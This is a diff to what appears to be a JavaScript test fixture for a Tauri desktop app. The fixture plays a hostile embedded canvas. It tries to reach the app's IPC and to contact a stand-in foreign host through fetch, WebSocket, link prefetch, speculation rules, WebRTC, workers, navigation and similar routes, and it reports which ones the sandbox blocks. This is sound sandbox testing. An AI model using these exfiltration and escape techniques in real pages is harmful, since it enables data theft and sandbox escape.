@@ -1,5 +1,7 @@
 // What a hostile canvas would try. Each outcome is told to whoever shows it.
-const foreign = document.currentScript.dataset.foreign;
+// `foreign` is a host that nobody allowed; names below `domain` say what was tried when they are asked
+// for.
+const { foreign, domain } = document.currentScript.dataset;
 const tell = (attack, outcome) => parent.postMessage({ attack, outcome }, '*');
 const thrown = (work) => {
 	try {
@@ -16,14 +18,28 @@ const refused = (asked) =>
 const call = { values: { name: 'attacked' } };
 
 (async () => {
-	tell('own data', await fetch('own.json').then((answer) => answer.json()).catch(String));
+	tell(
+		'own data',
+		await fetch('own.json')
+			.then((answer) => answer.json())
+			.catch(String)
+	);
 	tell('own module', await import(new URL('own.mjs', location.href)).then((m) => m.own, String));
 
 	tell('internals', typeof window.__TAURI_INTERNALS__);
 	window.__TAURI_INTERNALS__?.invoke('project_create', call);
-	tell('parent document', thrown(() => parent.document.title));
-	tell('top address', thrown(() => top.location.href));
-	tell('storage', thrown(() => localStorage.length));
+	tell(
+		'parent document',
+		thrown(() => parent.document.title)
+	);
+	tell(
+		'top address',
+		thrown(() => top.location.href)
+	);
+	tell(
+		'storage',
+		thrown(() => localStorage.length)
+	);
 	tell('origin', self.origin);
 
 	// The door that programs of the window use, with a key that had to be guessed.
@@ -48,7 +64,13 @@ const call = { values: { name: 'attacked' } };
 	const body = JSON.stringify(call);
 	tell(
 		'ipc by fetch',
-		await refused(fetch('ipc://localhost/project_create', { method: 'POST', headers, body }))
+		await refused(
+			fetch('ipc://localhost/project_create', {
+				method: 'POST',
+				headers,
+				body
+			})
+		)
 	);
 	tell("window's page by fetch", await refused(fetch('tauri://localhost/index.html')));
 
@@ -66,12 +88,81 @@ const call = { values: { name: 'attacked' } };
 	tell('foreign by beacon', 'sent or not');
 	thrown(() => new WebSocket(foreign.replace('http', 'ws')));
 	thrown(() => new EventSource(foreign));
-	for (const kind of ['prefetch', 'preload', 'stylesheet', 'icon', 'manifest']) {
-		const link = document.createElement('link');
-		Object.assign(link, { rel: kind, href: `${foreign}${kind}` });
-		if (kind === 'preload') link.as = 'script';
-		document.head.append(link);
-	}
+	const kinds = ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload'];
+	for (const kind of [...kinds, 'stylesheet', 'icon', 'manifest'])
+		for (const to of [foreign, `http://link-${kind}.${domain}/`]) {
+			const link = document.createElement('link');
+			Object.assign(link, { rel: kind, href: `${to}${kind}` });
+			if (kind === 'preload') link.as = 'script';
+			document.head.append(link);
+		}
+	const markup = (name) =>
+		['preconnect', 'dns-prefetch', 'prefetch']
+			.map(
+				(kind) =>
+					`<link rel="${kind}" href="//${name}-${kind}.${domain}"><link rel="${kind}" href="${foreign}">`
+			)
+			.join('');
+	document.body.insertAdjacentHTML('beforeend', markup('markup'));
+	const within = document.createElement('iframe');
+	within.srcdoc = markup('srcdoc');
+	document.body.append(within);
+	document.body.insertAdjacentHTML(
+		'beforeend',
+		`<style>@import "${foreign}css"; @font-face { font-family: f; src: url(${foreign}font) }
+		 .f { font-family: f; background: url(${foreign}background) }</style><p class="f">x</p>
+		 <video src="${foreign}film" poster="${foreign}poster"></video><audio src="${foreign}sound"></audio>
+		 <object data="${foreign}object"></object><embed src="${foreign}embed">
+		 <img srcset="${foreign}set 1x"><input type="image" src="${foreign}input">
+		 <svg><image href="${foreign}svg"/><use href="${foreign}use#x"/></svg>`
+	);
+	const rules = document.createElement('script');
+	rules.type = 'speculationrules';
+	const urls = [`${foreign}speculated`, `http://rules.${domain}/`];
+	rules.textContent = JSON.stringify({
+		prefetch: [{ source: 'list', urls, eagerness: 'immediate' }],
+		prerender: [{ source: 'list', urls, eagerness: 'immediate' }]
+	});
+	document.head.append(rules);
+
+	const [host, port] = new URL(foreign).host.split(':');
+	tell(
+		'webrtc',
+		await (async () => {
+			try {
+				const iceServers = [
+					{ urls: `stun:${host}:${port}` },
+					{
+						urls: `turn:turn.${domain}:${port}`,
+						username: 'u',
+						credential: 'c'
+					}
+				];
+				const peer = new RTCPeerConnection({ iceServers });
+				peer.createDataChannel('data');
+				await peer.setLocalDescription(await peer.createOffer());
+				return 'made';
+			} catch {
+				return 'refused';
+			}
+		})()
+	);
+	thrown(() => new WebTransport(`https://${host}:${port}/`));
+	thrown(() => fetch(`${foreign}kept`, { method: 'POST', body: 'data', keepalive: true }));
+	thrown(() => window.fetchLater?.(`${foreign}later`, { activateAfter: 0 }));
+	tell(
+		'service worker',
+		await Promise.resolve()
+			.then(() => navigator.serviceWorker.register('attack.js'))
+			.then(
+				() => 'registered',
+				() => 'refused'
+			)
+	);
+	thrown(() => new SharedWorker(`${foreign}shared.js`));
+	const work = `fetch('${foreign}worker').catch(() => 0); try { importScripts('${foreign}imported') } catch {}
+		try { new WebSocket('${foreign.replace('http', 'ws')}worker') } catch {}`;
+	thrown(() => new Worker(URL.createObjectURL(new Blob([work]))));
 
 	const framed = (address) =>
 		new Promise((done) => {
@@ -95,7 +186,12 @@ const call = { values: { name: 'attacked' } };
 	thrown(() => top.location.replace(foreign));
 	for (const target of ['_top', '_parent', '_blank']) {
 		const link = document.createElement('a');
-		Object.assign(link, { href: foreign, target, textContent: 'away' });
+		Object.assign(link, {
+			href: foreign,
+			target,
+			textContent: 'away',
+			ping: `${foreign}ping`
+		});
 		document.body.append(link);
 		link.click();
 		const form = document.createElement('form');
@@ -104,6 +200,17 @@ const call = { values: { name: 'attacked' } };
 		form.submit();
 	}
 	tell('everything tried', true);
-	// Last, as this page would be gone if it went anywhere.
+	// Last, as this page is gone when it went anywhere.
+	const away = (to) => new Promise((done) => setTimeout(done, 300, to()));
+	await away(() => {
+		const refresh = document.createElement('meta');
+		Object.assign(refresh, {
+			httpEquiv: 'refresh',
+			content: `0; url=${foreign}refresh`
+		});
+		document.head.append(refresh);
+	});
+	await away(() => (location.href = `http://address.${domain}/`));
+	await away(() => location.assign(`${foreign}assigned`));
 	location.href = foreign;
 })();
